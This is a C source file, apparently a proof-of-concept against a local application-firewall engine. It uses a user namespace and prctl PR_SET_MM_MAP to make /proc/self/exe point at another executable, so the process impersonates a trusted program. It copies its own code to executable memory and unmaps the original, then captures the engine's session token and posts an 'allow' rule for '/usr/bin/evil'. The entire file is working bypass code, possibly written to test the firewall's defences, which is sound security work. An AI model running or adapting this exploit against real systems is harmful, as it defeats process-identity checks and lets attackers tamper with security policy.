// spoof ADDRESS PROGRAM: is another executable in /proc, as a user namespace permits. Where ADDRESS is the path of the
// engine's socket it adds a rule as the desktop program, and prints what the engine replies. Where it is IPV4:PORT it
// connects, and prints whether it could.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/prctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

struct tools {
  int (*munmap)(void *, size_t);
  int (*prctl)(int, ...);
  int (*connect)(int, const struct sockaddr *, socklen_t);
  ssize_t (*write)(int, const void *, size_t);
  ssize_t (*read)(int, void *, size_t);
  char *(*strstr)(const char *, const char *);
  size_t (*strlen)(const char *);
  void *(*memcpy)(void *, const void *, size_t);
  void (*quit)(int);
  struct prctl_mm_map map;
  union { struct sockaddr any; struct sockaddr_un path; struct sockaddr_in ip; } address;
  struct { void *at; size_t size; } parts[16];
  int nparts, sock;
  char hello[300], rule[600], mark[16], quote[4], reply[4096], bad[32], refused[16], connected[16];
};

// It is copied elsewhere before it runs, and calls nothing by name.
__attribute__((noinline)) static void spoof(struct tools *t) {
  for (int i = 0; i < t->nparts; i++) t->munmap(t->parts[i].at, t->parts[i].size);
  if (t->prctl(35 /* PR_SET_MM */, 14 /* PR_SET_MM_MAP */, &t->map, sizeof t->map, 0)) {
    t->write(1, t->bad, t->strlen(t->bad));
    t->quit(1);
  }
  t->prctl(4 /* PR_SET_DUMPABLE */, 0, 0, 0, 0);
  int failed = t->connect(t->sock, &t->address.any, sizeof t->address);
  if (t->address.any.sa_family == AF_INET) {
    char *said = failed ? t->refused : t->connected;
    t->write(1, said, t->strlen(said));
    t->quit(0);
  }
  t->write(t->sock, t->hello, t->strlen(t->hello));
  t->read(t->sock, t->reply, sizeof t->reply - 1);
  char *token = t->strstr(t->reply, t->mark), *gap = t->strstr(t->rule, t->quote);
  if (!token) {
    t->write(1, t->reply, t->strlen(t->reply));
    t->quit(1);
  }
  t->memcpy(gap, token + 9, 26);
  t->write(t->sock, t->rule, t->strlen(t->rule));
  long n = t->read(t->sock, t->reply, sizeof t->reply - 1);
  t->write(1, t->reply, n);
  t->quit(0);
}

int main(int argc, char **argv) {
  struct tools *t = mmap(0, sizeof *t, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  *t = (struct tools){munmap, prctl, connect, write, read, strstr, strlen, memcpy, _exit};
  char *colon = argv[1][0] == '/' ? 0 : strchr(argv[1], ':');
  if (colon) {
    *colon = 0;
    t->address.ip = (struct sockaddr_in){AF_INET, htons(atoi(colon + 1)), {inet_addr(argv[1])}};
  } else {
    t->address.path.sun_family = AF_UNIX;
    strcpy(t->address.path.sun_path, argv[1]);
  }
  int exe = open(argv[2], O_RDONLY);
  t->sock = socket(t->address.any.sa_family, SOCK_STREAM, 0);
  if (exe < 0 || t->sock < 0 || unshare(CLONE_NEWUSER)) return perror("spoof"), 2;
  unsigned long a = 1 << 20;
  t->map = (struct prctl_mm_map){a, a + 1, a + 2, a + 3, a + 4, a + 5, a + 6, a + 7, a + 8, a + 9, a + 10, 0, 0, exe};
  const char *body = "{\"desktop\":true,\"session\":\"\"}";
  sprintf(t->hello, "POST /v1/hello HTTP/1.1\r\nHost: engine\r\nContent-Length: %zu\r\n\r\n%s", strlen(body), body);
  body = "{\"program\":\"/usr/bin/evil\",\"verdict\":\"allow\",\"enabled\":true}";
  sprintf(t->rule, "POST /v1/rules HTTP/1.1\r\nHost: engine\r\nSallyport-Token: @@@@@@@@@@@@@@@@@@@@@@@@@@\r\nContent-Length: %zu\r\n\r\n%s", strlen(body), body);
  strcpy(t->mark, "\"token\":\"");
  strcpy(t->quote, "@@@");
  strcpy(t->bad, "the kernel forbids it\n");
  strcpy(t->refused, "refused\n");
  strcpy(t->connected, "connected\n");
  char self[4096], line[4096];
  self[readlink("/proc/self/exe", self, sizeof self - 1)] = 0;
  FILE *maps = fopen("/proc/self/maps", "r");
  while (fgets(line, sizeof line, maps)) {
    unsigned long from, to;
    if (strstr(line, self) && sscanf(line, "%lx-%lx", &from, &to) == 2) {
      t->parts[t->nparts].at = (void *)from;
      t->parts[t->nparts++].size = to - from;
    }
  }
  void *code = mmap(0, 8192, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  memcpy(code, (void *)spoof, 2048);
  __builtin___clear_cache(code, (char *)code + 2048);
  ((void (*)(struct tools *))code)(t);
}
